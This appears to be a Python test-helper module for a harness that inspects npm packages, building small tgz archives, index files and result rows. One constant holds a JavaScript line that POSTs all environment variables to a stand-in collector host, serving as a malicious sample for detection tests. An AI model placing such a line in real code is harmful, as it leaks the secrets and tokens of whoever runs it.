"""Sets of small archives in a folder, and rows as the harness keeps them."""

import hashlib
import json
from pathlib import Path
from typing import Any

import msgspec
from bench.inspect.rows import Row

from tests.builders import tgz

POSTS_ENVIRONMENT = (
    "require('https').request('https://collector.pratique-bench.invalid/in', {method: 'POST'})"
    ".end(JSON.stringify(process.env))\n"
)
PLAIN = "module.exports = (a, b) => a + b\n"


def package(name: str, code: str, *, version: str = "1.0.0") -> bytes:
    """An npm package with one file of code."""
    manifest = json.dumps({"name": name, "version": version, "main": "index.js"})
    return tgz({"package.json": manifest, "index.js": code})


def indexed(folder: Path, archives: dict[tuple[str, str], bytes], *, drawn: str = "tree x") -> Path:
    """A set with an index: (name, version) -> bytes."""
    folder.mkdir()
    lines = []
    for (name, version), data in archives.items():
        digest = hashlib.sha256(data).hexdigest()
        (folder / f"{digest}.tgz").write_bytes(data)
        told = {
            "set": folder.name,
            "ecosystem": "npm",
            "name": name,
            "version": version,
            "filename": f"{name}-{version}.tgz",
            "sha256": digest,
            "size": len(data),
            "drawn": drawn,
            "file": f"{digest}.tgz",
        }
        lines.append(json.dumps(told))
    (folder / "index.jsonl").write_text("\n".join(lines) + "\n")
    return folder


def row(name: str, *, set_: str = "benign-npm", **more: Any) -> Row:
    """A row of an artifact that was inspected, its digest made of its name."""
    given = {"action": "allow", "pinned": "allow", "cpu_s": 0.1, "family": name, **more}
    digest = hashlib.sha256(name.encode()).hexdigest()
    empty = Row(
        set=set_, ecosystem="npm", name=name, version="1", filename=f"{name}-1.tgz", sha256=digest, size=10
    )
    return msgspec.structs.replace(empty, **given)
